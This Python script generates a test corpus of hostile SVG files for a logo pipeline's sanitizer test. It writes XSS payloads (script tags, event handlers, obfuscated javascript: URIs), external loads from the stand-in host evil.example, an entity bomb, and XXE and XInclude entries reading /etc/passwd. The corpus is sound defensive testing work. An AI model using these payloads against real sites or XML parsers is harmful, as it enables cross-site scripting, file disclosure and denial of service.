#!/usr/bin/env python3
"""Writes the hostile-SVG corpus of tests/fixtures/hostile-svg/ (issue #17: at least 50 files).

Each file attacks one way: script elements, event handlers, foreignObject, external use/image,
CSS url(), entity bombs and external entities, data:/javascript: in every linking attribute,
animation that sets href, and obfuscated variants of each. tests/it/hostile_svg.rs feeds every file
through the logo pipeline and checks that nothing unsafe is ever stored. Run it again after adding a
case; the files are committed.
"""
import pathlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "hostile-svg"
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RECT = '<rect width="10" height="10" fill="#4a9"/>'


def svg(inner, attrs=""):
    return f'<svg {NS} viewBox="0 0 10 10"{attrs}>{RECT}{inner}</svg>\n'


cases = {
    "script-plain": svg("<script>alert(1)</script>"),
    "script-cdata": svg("<script><![CDATA[alert(1)]]></script>"),
    "script-href": svg('<script xlink:href="https://evil.example/x.js"/>'),
    "script-uppercase": svg("<SCRIPT>alert(1)</SCRIPT>"),
    "script-other-ns": svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    "script-xhtml": svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
    "script-in-defs": svg("<defs><script>alert(1)</script></defs>"),
    "script-nested-g": svg("<g><g><g><script>alert(1)</script></g></g></g>"),
    "onload-root": svg("", ' onload="alert(1)"'),
    "onclick-rect": svg('<rect width="5" height="5" onclick="alert(1)"/>'),
    "onmouseover-text": svg('<text onmouseover="alert(1)">x</text>'),
    "onerror-image": svg('<image href="x" onerror="alert(1)"/>'),
    "onbegin-animate": svg('<animate attributeName="x" onbegin="alert(1)"/>'),
    "onfocusin-g": svg('<g onfocusin="alert(1)" tabindex="0"/>'),
    "handler-mixed-case": svg('<rect OnLoad="alert(1)"/>'),
    "handler-namespaced": svg('<rect xmlns:e="urn:x" e:onload="alert(1)"/>'),
    "foreignobject-html": svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>'),
    "foreignobject-iframe": svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>'),
    "foreignobject-in-switch": svg('<switch><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></switch>'),
    "use-external": svg('<use href="https://evil.example/sprite.svg#a"/>'),
    "use-xlink-external": svg('<use xlink:href="https://evil.example/sprite.svg#a"/>'),
    "use-relative-file": svg('<use href="other.svg#a"/>'),
    "use-data": svg('<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=#x"/>'),
    "image-external": svg('<image href="https://evil.example/track.png" width="1" height="1"/>'),
    "image-xlink-external": svg('<image xlink:href="https://evil.example/track.png"/>'),
    "image-data-svg": svg('<image href="data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E"/>'),
    "image-protocol-relative": svg('<image href="//evil.example/track.png"/>'),
    "css-url-external": svg('<style>rect { fill: url(https://evil.example/x.svg#g); }</style>'),
    "css-import": svg('<style>@import url("https://evil.example/x.css");</style>'),
    "css-font-face": svg('<style>@font-face { font-family: x; src: url(https://evil.example/f.woff); }</style>'),
    "css-expression": svg('<style>rect { width: expression(alert(1)); }</style>'),
    "css-escaped-url": svg('<style>rect { fill: u\\72l(https://evil.example/x); }</style>'),
    "style-attr-url": svg('<rect style="fill: url(https://evil.example/x.svg#g)"/>'),
    "style-attr-javascript": svg('<rect style="background: url(javascript:alert(1))"/>'),
    "fill-attr-external-url": svg('<rect fill="url(https://evil.example/x.svg#g)"/>'),
    "filter-attr-external": svg('<rect filter="url(https://evil.example/f.svg#f)"/>'),
    "mask-attr-external": svg('<rect mask="url(//evil.example/m.svg#m)"/>'),
    "entity-bomb": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n' + svg("<text>&d;</text>"),
    "entity-external-file": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + svg("<text>&x;</text>"),
    "entity-external-url": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/x">]>\n' + svg("<text>&x;</text>"),
    "doctype-external-dtd": '<?xml version="1.0"?>\n<!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd">\n' + svg(""),
    "xinclude": svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    "xml-stylesheet-pi": '<?xml version="1.0"?>\n<?xml-stylesheet href="https://evil.example/x.css"?>\n' + svg(""),
}

# A linking scheme in every attribute that can carry a link.
for scheme_name, value in [
    ("javascript", "javascript:alert(1)"),
    ("javascript-obfuscated", "&#x6A;ava&#x09;script:alert(1)"),
    ("javascript-mixed-case", " JaVaScRiPt:alert(1)"),
    ("data-html", "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("vbscript", "vbscript:msgbox(1)"),
]:
    cases[f"a-href-{scheme_name}"] = svg(f'<a href="{value}"><text>x</text></a>')
    cases[f"a-xlink-{scheme_name}"] = svg(f'<a xlink:href="{value}"><text>x</text></a>')
    cases[f"use-{scheme_name}"] = svg(f'<use href="{value}"/>')
    cases[f"image-{scheme_name}"] = svg(f'<image href="{value}"/>')
    cases[f"textpath-{scheme_name}"] = svg(f'<text><textPath href="{value}">x</textPath></text>')
    cases[f"pattern-{scheme_name}"] = svg(f'<pattern id="p" href="{value}"/>')
    cases[f"gradient-{scheme_name}"] = svg(f'<linearGradient id="g" xlink:href="{value}"/>')
    cases[f"feimage-{scheme_name}"] = svg(f'<filter id="f"><feImage href="{value}"/></filter>')

# Animation that turns a harmless attribute into a link or a handler.
for n, anim in enumerate([
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
    '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
    '<a><animate attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>',
    '<a><animate attributeName="HREF" values="javascript:alert(1)"/><text>x</text></a>',
    '<use href="#r"><set attributeName="href" to="https://evil.example/x.svg#a"/></use>',
    '<rect><animate attributeName="onclick" to="alert(1)"/></rect>',
    '<rect><set attributeName="style" to="fill:url(https://evil.example/x)"/></rect>',
    '<animate xlink:href="#r" attributeName="href" to="javascript:alert(1)"/>',
]):
    cases[f"animate-{n:02d}"] = svg(anim)

OUT.mkdir(parents=True, exist_ok=True)
for old in OUT.glob("*.svg"):
    old.unlink()
for name, text in sorted(cases.items()):
    (OUT / f"{name}.svg").write_text(text, encoding="utf-8")
print(f"{len(cases)} hostile SVGs in {OUT}")
